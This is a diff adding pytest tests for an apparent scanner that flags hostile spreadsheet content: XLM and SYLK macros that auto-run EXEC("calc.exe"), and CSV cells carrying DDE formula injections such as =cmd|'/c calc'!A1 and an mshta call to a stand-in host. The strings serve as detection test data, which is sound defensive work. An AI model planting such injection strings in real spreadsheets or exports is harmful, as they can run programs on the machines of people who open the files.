@@ -52,3 +52,20 @@ def test_formulas_that_start_on_opening_run_then() -> None:
     (one,) = facts('name: Auto_Open\nA1: =EXEC("calc.exe")\n', Kind.TEXT, "macros.xlm")
     (other,) = facts('A1: =EXEC("calc.exe")\n', Kind.TEXT, "macros.xlm")
     assert (one.when, other.when) == (When.OPEN, When.CALL)
+
+
+@pytest.mark.parametrize(
+    "line", ["=cmd|'/c calc'!A1", "a,b,\"+cmd.exe|' /c x'!z\"", "x;@mshta|'http://a.invalid'!A"]
+)
+def test_a_cell_that_asks_for_a_program_is_told(line: str) -> None:
+    assert [one.how for one in facts(f"name,sum\n{line}\n", Kind.TEXT, "a.csv")] == ["DDE"]
+
+
+def test_cells_with_sums_and_pipes_in_shells_are_ordinary() -> None:
+    assert facts("a,=SUM(A1:A3),-cmd\nls | powershell\nrun cmd | more\n", Kind.TEXT, "a.csv") == []
+
+
+def test_macros_in_a_table_of_symbolic_links_are_told() -> None:
+    text = 'ID;P\nO;E\nNN;NAuto_open;ER1C1\nC;X1;Y1;K0;EEXEC("calc.exe")\nE\n'
+    assert told(facts(text, Kind.TEXT, "a.slk")) == [(Act.EMBEDS, ""), (Act.RUNS_COMMAND, "calc.exe")]
+    assert facts('ID;PWXL\nC;X1;Y1;K"words"\nE\n', Kind.TEXT, "a.slk") == []
